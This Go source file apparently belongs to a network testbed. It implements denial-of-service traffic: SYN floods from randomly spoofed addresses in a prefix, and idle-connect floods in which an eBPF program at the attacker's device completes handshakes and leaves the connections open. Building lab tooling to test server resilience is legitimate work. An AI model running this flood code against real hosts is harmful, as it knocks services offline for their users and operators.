// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"time"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/link"

	"narthex/internal/lab"
)

// Pace says how fast and how much is sent.
type Pace struct {
	Rate  int    // frames per second; as many as go if 0
	Count uint64 // after so many it ends; with the context if 0
	Seed  uint64
}

// Packets sends made-up segments.
type Packets struct {
	Link Link
	Pace
	// Make makes segment i into s, which is zero or what was made before. It is called by one
	// goroutine.
	Make func(s *Segment, i uint64, random *rand.Rand)
}

// Start begins to send.
func (p Packets) Start(ctx context.Context) (*Run, error) {
	fail := func(err error) (*Run, error) { return nil, fmt.Errorf("start sending packets: %w", err) }
	src, dst, err := p.Link.macs()
	if err != nil {
		return fail(err)
	}
	raw, err := p.Link.sender()
	if err != nil {
		return fail(err)
	}
	r := begin(ctx, "send packets", func(ctx context.Context, r *Run) error {
		return errors.Join(p.send(ctx, r, raw, framer{src, dst}), raw.Close())
	})
	return r, nil
}

// send makes and sends frames until the context ends or there were enough.
func (p Packets) send(ctx context.Context, r *Run, raw *lab.Raw, f framer) error {
	random := rand.New(rand.NewPCG(p.Seed, 1))
	var (
		buffers [lab.MaxBatch][]byte
		segment Segment
		made    uint64
	)
	pace := newPacer(p.Pace)
	for {
		n, ok := pace.next(ctx, lab.MaxBatch)
		if !ok {
			return nil
		}
		for i := range n {
			p.Make(&segment, made, random)
			made++
			buffers[i] = f.frame(buffers[i], &segment)
		}
		sent, err := raw.SendBatch(buffers[:n])
		if err != nil {
			return err
		}
		r.sent.Add(uint64(sent))
		r.lost.Add(uint64(n - sent))
	}
}

// pacer spreads what is sent over time.
type pacer struct {
	Pace
	begun time.Time
	done  uint64
}

func newPacer(p Pace) *pacer { return &pacer{Pace: p, begun: time.Now()} }

// next waits until something is to be sent and returns how much, up to a number; false at the end.
func (p *pacer) next(ctx context.Context, most int) (n int, ok bool) {
	for ctx.Err() == nil {
		n := uint64(most)
		if p.Rate > 0 {
			due := uint64(float64(p.Rate) * time.Since(p.begun).Seconds())
			if due <= p.done {
				time.Sleep(max(time.Millisecond, time.Second/time.Duration(p.Rate)))
				continue
			}
			n = min(n, due-p.done)
		}
		if p.Count > 0 {
			n = min(n, p.Count-p.done)
		}
		p.done += n
		return int(n), n > 0
	}
	return 0, false
}

// Flood opens connections from made-up addresses of a prefix, each of which is used for many
// ports. With IdleConnects it is an idle-connect flood, else a SYN flood. No kernel has those
// addresses: nobody resets the connections, and nobody closes them.
type Flood struct {
	Link Link
	Pace
	From netip.Prefix // the target gets a route to it
	To   netip.AddrPort

	IdleConnects bool   // complete the handshakes
	Request      string // send this, with the end of the handshake, and nothing more; up to 500 bytes
	Broken       bool   // in a packet that the server's stack drops (IPv4)
}

// Start begins to send SYNs.
func (f Flood) Start(ctx context.Context) (*Run, error) {
	fail := func(err error) (*Run, error) { return nil, fmt.Errorf("start a flood from %s: %w", f.From, err) }
	if err := f.Link.route(f.From); err != nil {
		return fail(err)
	}
	var answers *responder
	if f.IdleConnects || f.Request != "" {
		var err error
		if answers, err = f.respond(); err != nil {
			return fail(err)
		}
	}
	r, err := Packets{Link: f.Link, Pace: f.Pace, Make: f.syn}.Start(ctx)
	if err != nil {
		return fail(errors.Join(err, answers.Close()))
	}
	if answers != nil {
		r.mu.Lock()
		r.ask = answers.count
		r.mu.Unlock()
		r.atEnd(answers.Close)
	}
	return r, nil
}

// syn makes the next SYN.
func (f Flood) syn(s *Segment, _ uint64, random *rand.Rand) {
	*s = Segment{
		From: netip.AddrPortFrom(within(f.From, random), uint16(1024+random.IntN(64512))),
		To:   f.To, Seq: random.Uint32(), Flags: SYN, MSS: true,
	}
}

// within returns an address of a prefix.
func within(p netip.Prefix, random *rand.Rand) netip.Addr {
	b := p.Masked().Addr().AsSlice()
	for i := range b {
		free := min(8, max(0, 8*(i+1)-p.Bits()))
		b[i] |= byte(random.Uint32()) & byte(1<<free-1)
	}
	a, _ := netip.AddrFromSlice(b) // as long as the one above
	return a
}

// responder is the program that completes handshakes, at the attacker's device.
type responder struct {
	objects respondObjects
	link    link.Link
}

// respond starts the responder. At the tail of the chain it sees what the stack would.
func (f Flood) respond() (*responder, error) {
	spec, err := loadRespond()
	if err != nil {
		return nil, err
	}
	if err := f.configure(spec); err != nil {
		return nil, err
	}
	r := &responder{}
	if err := spec.LoadAndAssign(&r.objects, nil); err != nil {
		return nil, fmt.Errorf("load the program that completes handshakes: %w", err)
	}
	dev, _ := f.Link.devices()
	device, err := f.Link.Attacker.Link(dev)
	if err == nil {
		err = f.Link.Attacker.Do(func() (err error) {
			r.link, err = link.AttachTCX(link.TCXOptions{
				Interface: device.Attrs().Index, Program: r.objects.Respond, Attach: ebpf.AttachTCXIngress, Anchor: link.Tail(),
			})
			return err
		})
	}
	if err != nil {
		return nil, errors.Join(fmt.Errorf("complete handshakes on %q: %w", dev, err), r.Close())
	}
	return r, nil
}

// configure says whose handshakes are completed, and with what.
func (f Flood) configure(spec *ebpf.CollectionSpec) error {
	request, err := padded(f.Request)
	if err != nil {
		return err
	}
	var prefix, mask [16]byte
	copy(prefix[:], f.From.Masked().Addr().AsSlice())
	for i := range mask {
		mask[i] = ^byte(1<<min(8, max(0, 8*(i+1)-f.From.Bits())) - 1)
	}
	v6 := byte(0)
	if f.To.Addr().Is6() {
		v6 = 1
	}
	port := f.To.Port()
	broken := byte(0)
	if f.Broken {
		broken = 1
	}
	var text [512]byte
	copy(text[:], request)
	for name, value := range map[string]any{
		"v6": v6, "prefix": prefix, "mask": mask, "server_port": [2]byte{byte(port >> 8), byte(port)},
		"request_length": uint32(len(request)), "request": text, "broken": broken,
	} {
		if err := spec.Variables[name].Set(value); err != nil {
			return fmt.Errorf("set %s: %w", name, err)
		}
	}
	return nil
}

// padded makes a request's length a multiple of four, by one more field in its head.
func padded(request string) (string, error) {
	const most = 500
	switch head, whole := strings.CutSuffix(request, "\r\n\r\n"); {
	case len(request) > most:
		return "", fmt.Errorf("a request of %d bytes is too long; the program sends up to %d", len(request), most)
	case len(request)%4 == 0:
		return request, nil
	case whole:
		return head + "\r\nP:" + strings.Repeat("x", 4-len(request)%4) + "\r\n\r\n", nil
	}
	return "", errors.New("what is no request without a body must be a multiple of four bytes long")
}

func (r *responder) count() uint64 {
	var n uint64
	_ = r.objects.Answered.Get(&n) // memory of ours
	return n
}

// Close ends the responder: what its clients are sent from now on the kernel gets, which
// does not know their addresses.
func (r *responder) Close() error {
	if r == nil {
		return nil
	}
	var errs []error
	if r.link != nil {
		errs = append(errs, r.link.Detach(), r.link.Close())
	}
	return errors.Join(append(errs, r.objects.Close())...)
}
